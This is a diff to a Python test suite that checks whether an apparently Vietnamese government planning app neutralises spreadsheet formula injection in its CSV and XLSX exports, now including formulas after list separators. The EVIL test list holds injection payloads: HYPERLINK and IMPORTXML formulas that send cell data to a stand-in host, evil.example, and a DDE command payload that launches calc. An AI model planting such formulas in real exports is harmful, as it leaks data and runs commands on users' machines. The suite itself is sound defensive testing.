@@ -9,6 +9,12 @@ exactly as typed, and every trigger-initial text cell has a style with Excel's q
 starting with a trigger character (they get a leading apostrophe). Text round-trips
 exactly through app/services/xlsx.py (hypothesis).
 
+After a separator too (issue 18, the outside probe's title `Tổng hợp số liệu;=1+1;@SUM(2+2)`):
+every CSV field is quoted, so a reader splitting on ";" (Vietnamese Excel's list separator)
+or on "," keeps each field whole; a segment after ; , tab CR or LF that would start a
+formula carries an apostrophe in CSV and puts the cell under the quote prefix in XLSX
+(where its text stays exact).
+
 The files are found from the url_map: every GET rule ending in .xlsx or .csv.
 
 Figure: N files, M cells: 0 formula cells, 0 trigger-initial text cells left unprotected
@@ -33,8 +39,22 @@ from app.models import Plan, Unit, User
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")', "=1+1", "+1+1", "-2+3",
         "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "-", "=", "+84 912 345 678",
-        "@người-dùng", "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")"]
+        "@người-dùng", "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
+        # the probe's payload and its kin: a formula after a separator
+        "Tổng hợp số liệu;=1+1;@SUM(2+2)", "Báo cáo, =HYPERLINK(\"http://evil.example\")",
+        "Rà soát\t+1+1", "Dòng một\n-2+3", "Kết quả;  @SUM(A1:A9)", "Tỷ lệ\r=1+1"]
+PROBE = "Tổng hợp số liệu;=1+1;@SUM(2+2)"
 NUMBER = re.compile(r"^-?\d+(?:[.,]\d+)?$")
+# a formula start after a list separator (spaces allowed): what a ";"-splitting reader
+# or "text to columns" would turn into a cell of its own
+SEGMENT = re.compile(r"[;,\t\r\n] *[=+\-@]")
+# every field of a CSV line quoted (RFC 4180, quotes doubled inside)
+QUOTED_LINE = re.compile(r'^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$', re.DOTALL)
+
+
+def formula_like(text: str) -> bool:
+    """Trigger-initial, or a trigger after a separator."""
+    return text.startswith(TRIGGERS) or SEGMENT.search(text) is not None
 
 
 @pytest.fixture(scope="module")
@@ -57,6 +77,9 @@ def poisoned(shared):
     a.set_name("+Sở Nội vụ")
     p = db.session.get(Plan, w.plan.id)
     p.title = "-Kế hoạch CCHC năm 2026"
+    # Issued: tasks of a draft plan are in no overdue list or assessment (DESIGN.md 4), and
+    # the poisoned rows must reach every export.
+    p.status = "issued"
     db.session.commit()
     shared.pristine = dump()
     return w
@@ -96,7 +119,7 @@ def check_xlsx(body: bytes) -> tuple[int, list]:
                 cells += 1
                 if c.data_type == "f":
                     bad.append(("formula", ws.title, c.coordinate, c.value))
-                elif isinstance(c.value, str) and c.value.startswith(TRIGGERS):
+                elif isinstance(c.value, str) and formula_like(c.value):
                     if c.quotePrefix and c.data_type == "s":
                         QUOTED["n"] += 1
                     else:
@@ -145,20 +168,42 @@ def check_xlsx_xml(body: bytes) -> list:
                 continue
             else:
                 continue
-            if text.startswith(TRIGGERS) and int(a.get("s", 0)) not in quoted:
+            if formula_like(text) and int(a.get("s", 0)) not in quoted:
                 bad.append(("trigger", name, ref, text))
     return bad
 
 
+def csv_records(text: str) -> list[str]:
+    """The raw records of a CSV body (CRLF-separated outside quotes)."""
+    records, start, inside = [], 0, False
+    for i, ch in enumerate(text):
+        if ch == '"':
+            inside = not inside
+        elif not inside and text.startswith("\r\n", i):
+            records.append(text[start:i])
+            start = i + 2
+    if text[start:]:
+        records.append(text[start:])
+    return records
+
+
 def check_csv(body: bytes) -> tuple[int, list]:
+    """Cells and problems: a field not quoted in the raw file (a quoted field never splits
+    on the ";" inside it, whatever list separator the reader uses); a trigger-initial cell;
+    a cell with a formula after a separator not neutralised."""
     text = body.decode("utf-8-sig")
     cells, bad = 0, []
+    for n, record in enumerate(csv_records(text), start=1):
+        if not QUOTED_LINE.match(record):
+            bad.append(("unquoted", n, record[:80]))
     for n, row in enumerate(csv.reader(io.StringIO(text, newline="")), start=1):
         for v in row:
             if v == "":
                 continue
             cells += 1
             if v.startswith(TRIGGERS) and not NUMBER.match(v):
+                bad.append(("trigger", n, v))
+            if SEGMENT.search(v):
                 bad.append(("trigger", n, v))
     return cells, bad
 
@@ -197,6 +242,40 @@ def test_every_export_is_free_of_formulas(shared, poisoned):
                       f"{sum(1 for b in bad if b[2] == 'trigger')} trigger-initial text cells "
                       f"unprotected ({QUOTED['n']} XLSX cells kept as typed with the quote prefix)")
     assert not bad, bad[:10]
+
+
+def test_the_probes_title_stays_one_neutralised_field(shared, poisoned):
+    """Issue 18.4: the outside probe's title `Tổng hợp số liệu;=1+1;@SUM(2+2)` in the
+    assessment's task CSV (quoted whole, an apostrophe before each formula after a
+    separator) and in the XLSX exports (text exact, quote prefix), read back with csv and
+    openpyxl."""
+    from openpyxl import load_workbook
+
+    title = f"{PROBE} nhiệm vụ {EVIL.index(PROBE)}"
+    neutral = "Tổng hợp số liệu;'=1+1;'@SUM(2+2) nhiệm vụ " + str(EVIL.index(PROBE))
+    c = shared.client("admin")
+    body = c.get("/assessment/export/tasks.csv?period=2026").get_data()
+    text = body.decode("utf-8-sig")
+    assert f'"{neutral}"' in text  # one quoted field, as written
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert any(neutral in row for row in rows)
+    # Excel with ";" as its list separator: the quotes keep the field whole
+    semicolon = [v for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for v in row]
+    assert not any(v.lstrip().startswith(TRIGGERS) for v in semicolon), \
+        [v for v in semicolon if v.lstrip().startswith(TRIGGERS)][:5]
+    found = 0
+    for url in ("/overdue.xlsx", "/assessment/export.xlsx?period=2026"):
+        resp = c.get(url)
+        assert resp.status_code == 200, url
+        for ws in load_workbook(io.BytesIO(resp.get_data())).worksheets:
+            for row in ws.iter_rows():
+                for cell in row:
+                    if cell.value == title:
+                        assert cell.data_type == "s" and cell.quotePrefix, (url, cell.coordinate)
+                        found += 1
+    assert found >= 2
+    figure("exports", f"the probe's title: one quoted CSV field ({neutral!r}), "
+                      f"{found} XLSX cells exact with the quote prefix")
 
 
 def test_cli_assessment_exports_are_neutralised(shared, poisoned, tmp_path):
@@ -262,8 +341,9 @@ def test_any_text_is_stored_as_text_and_never_a_formula(values):
         for v, (got, kind, quoted) in zip(values, back, strict=True):
             expected = xlsx.clean_text(v)  # as typed, less what XML cannot hold
             assert kind == "s" or (expected == "" and got is None), (v, got, kind)
-            # Trigger-initial text keeps its first character and carries the quote prefix.
-            assert quoted == expected.startswith(TRIGGERS), (v, got, quoted)
+            # Formula-like text (trigger-initial, or a trigger after a separator) keeps its
+            # first character and carries the quote prefix.
+            assert quoted == formula_like(expected), (v, got, quoted)
             assert (got or "") == expected.replace("\r\n", "\n").replace("\r", "\n") or \
                 (got or "") == expected, (v, got)
 
@@ -281,15 +361,19 @@ def test_safe_text_round_trips_exactly(values):
     clean = [v for v in values if not ILLEGAL_CHARACTERS_RE.search(v) and "\r" not in v]
     for v in clean:
         assert xlsx.clean_text(v) == v
-        if not v.startswith(TRIGGERS):
+        if not formula_like(v):
             assert xlsx.safe_text(v) == v and csv_value(v) == v
+        else:  # neutralised: nothing formula-like left, the text itself all there
+            safe = xlsx.safe_text(v)
+            assert not safe.startswith(TRIGGERS) and not SEGMENT.search(safe), (v, safe)
+            assert safe.replace("'", "") == v.replace("'", ""), (v, safe)
     for back in _roundtrip(clean) if clean else []:
         for v, (got, _kind, _quoted) in zip(clean, back, strict=True):
             assert (got if got is not None else "") == v, (v, got)
-    clean = [v for v in clean if not v.startswith(TRIGGERS)]
+    clean = [v for v in clean if not formula_like(v)]
     # CSV: RFC 4180 quoting keeps commas, quotes and newlines
     buf = io.StringIO(newline="")
-    csv.writer(buf).writerow([csv_value(v) for v in clean])
+    csv.writer(buf, quoting=csv.QUOTE_ALL).writerow([csv_value(v) for v in clean])
     if clean:
         assert next(csv.reader(io.StringIO(buf.getvalue(), newline=""))) == clean
     SAMPLES["n"] += len(clean)
